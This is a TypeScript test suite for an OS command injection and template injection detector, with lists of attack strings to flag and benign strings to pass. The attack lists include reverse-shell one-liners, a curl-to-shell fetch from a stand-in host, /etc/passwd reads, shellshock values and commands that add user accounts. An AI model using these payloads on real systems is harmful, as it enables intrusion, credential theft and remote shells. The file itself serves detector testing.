import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { decodeValue } from '../../../src/threat/decode/normalize.js';
import { detectCmdi } from '../../../src/threat/detectors/cmdi.js';

const score = (s: string) => detectCmdi(decodeValue(s)).confidence;

describe('OS command injection detector', () => {
  const attacks = [
    '; id', '|whoami', '&& cat /etc/passwd', '`uname -a`', '$(curl http://evil.example/x.sh|sh)', 'a;/usr/bin/id;',
    '127.0.0.1; ping -c 3 evil.example', '%0aid', "w'h'o'am'i;", 'x|/bin/sh -i', '() { :;}; /bin/bash -c id',
    ';cat${IFS}/etc/passwd', '{cat,/etc/passwd}', '& net user hacker Passw0rd /add', '| nc -e /bin/sh 10.0.0.1 4444',
    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'User-Agent: () { :; }; echo hi', 'x=() { :;}; ping -c 1 x', "<!--#exec cmd=\"ls\" -->", "system('id')", '{{ "".__class__.__mro__ }}',
    '${@print(md5(1))}', 'sleep 5', 'ls -la /etc',
  ];
  for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`));

  const benign = [
    'Hi; who is this?', 'cut & paste', 'copy & paste', 'Tom & Jerry', 'Lorem ipsum; sed do eiusmod', 'sleep 8 hours',
    'cat food', 'top 10 movies', 'Run `npm install` first', '```bash\ncurl -X POST https://api.example.com\n```',
    'a=1&type=2', '&copy; 2024 Example Inc.', '| Name | Age |', 'ping pong table', 'Yes -- I agree', 'echo dot',
    'Hello {{first_name}}', 'Dear ${customer}', 'find my phone', 'curl',
  ];
  for (const b of benign) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`));

  describe('quotes that split a command name, and quotes around a whole word', () => {
    const attacks = ["c'a't /etc/hosts", '"wh"oami', "who''ami", 'l"s" -la', '"t"rue;'];
    for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`));
    // one pair of quotes around the whole word quotes it; it does not disguise it
    const benign = ['"FALSE"', "'true'", '"Yes"', 'size "TRUE" to fit'];
    for (const b of benign) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`));
  });

  describe('a sentence that opens with a word that is also a command', () => {
    const attacks = ['find / -name secret files -delete', 'net user guest s3cret /add', 'open https://203.0.113.9/x.sh; sh x.sh',
      'cat /etc/hosts now', 'find /var/www and more -exec rm {} +', 'echo hello world > /var/www/x.php', 'cat notes >> ./out.txt'];
    for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`));
    const benign = ['open https://example.com to continue', "type 'yes' to confirm", 'find /docs for help', 'at https://status.example.com we post updates',
      'start https://app.example.com and sign in', "echo \"hello\" back, don't shout",
      ';; Everyone is granted permission to copy', ';; see the notes below', 'sort by price > 100', 'echo chamber > politics',
      'mixin() {', 'async function main() {']; // ';;' is a shell syntax error outside `case`; a name before '() {' is a function of its own, not an imported shellshock value
    for (const b of benign) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`));
  });

  describe('markdown inline code holding one English word', () => {
    const attacks = ['`id`', 'x`id`', 'name=`id`', '; `id`', '`id`;', 'a`sleep 5`', '`cat /etc/passwd`'];
    for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`));
    const benign = ['Default: `false`', '| `resetTTL` | `boolean` | `false` | Reset TTL |', '`true` when the stream is no longer readable.',
      '**Default:** `true`.', 'Pass (`split`) to break lines', '| Property | `type` |'];
    for (const b of benign) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`));
  });

  describe('template injection probes', () => {
    const attacks = [
      '{{7*7}}', '{{ 9 * 9 }}', "{{3*'3'}}", '${6*6}', '${{5*5}}', '#{2*21}', '<%= 8*8 %>', '{{12+30}}', '{{2**10}}',
      '{{12 30}}', // a raw '+' in a query string arrives as a space
      '{% for x in range(3) %}{{x}}{% endfor %}', '{%- if true -%}yes{%- endif -%}', '{% macro m() %}z{% endmacro %}',
    ];
    for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`));
    const benign = [
      '{{order_id}}', 'Hi {{ user.first_name }}!', '${total}', 'Price: {amount} EUR', '#{ticket}', '{{ 42 }}', '{{1.5*2}}',
      '{% for item in cart %}', '{% if x %} unclosed', 'Use {% raw %}{{ x }}{% endraw %} to escape', '{% print 1 * 2 %}', 'for {% and endfor %}', '{{ a * b }}', '7*7=49',
    ];
    for (const b of benign) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`));
  });

  describe('redirection or caret before a command', () => {
    const attacks = ['<whoami', '<uname;', '<ls -la', '<cat\n', '^hostname', '^netstat;', '^ver|', '<date'];
    for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`));
    const benign = ['<3 you', '< 5 items', '^test', '^start', '^[a-z]+$', '^1.2.3', '^_^', '<head>', '<time datetime="2024">', '<user@example.com>', 'a <b> c'];
    for (const b of benign) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`));
  });

  describe('interpreter function called as a statement', () => {
    const attacks = ['phpinfo();', ';phpversion();', '|getenv("PATH");', 'x:var_dump($GLOBALS);', 'print_r($_SERVER) ;'];
    for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`));
    const benign = ['$user->system();', 'app.include(x);', 'the system (beta); ok', 'Robert\'); Smith', 'console.log(x);', 'md5 (hash); sha1 (hash)', 'the include(s); list'];
    for (const b of benign) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`));
  });
});

describe('a command after ; whose one argument is a host name', () => {
  // `curl example.com` alone is a command line (cmdi-args.ts hostArgEnds); after ';' it chains onto the command the value was put in
  const attacks = ['x;curl evil.example', 'x;wget evil.example', 'x;nslookup abc.attacker.example', 'x; ssh attacker.example', 'x;curl 203.0.113.5;'];
  for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`));
  // a sentence goes on after the host, or the command names a tool in a list
  const benign = ['Ideas: use vim; curl is fine too', 'I use emacs; wget example.com is slow here', 'Mirrors: ftp.example.org; curl example.org works as well'];
  for (const b of benign) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`));
});

describe('a cmd.exe variable opening the command path', () => {
  // %SystemRoot%, %windir%, %ProgramFiles% expand to folders: the command is the path's last name
  const attacks = ['x & %SystemRoot%\\system32\\whoami.exe', 'x && %ProgramFiles%\\7-Zip\\7z.exe a c:\\x.7z c:\\', '%windir%\\system32\\whoami', 'x|%WINDIR%/System32/ipconfig /all'];
  for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`));
  const benign = ['%COMPUTERNAME% and %USERNAME% are shown in the title bar', 'Save to %APPDATA%\\MyApp\\settings.ini', 'Files in %USERPROFILE%\\Documents & Settings are kept', 'Cost went up 50% & then 20%'];
  for (const b of benign) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`));
});
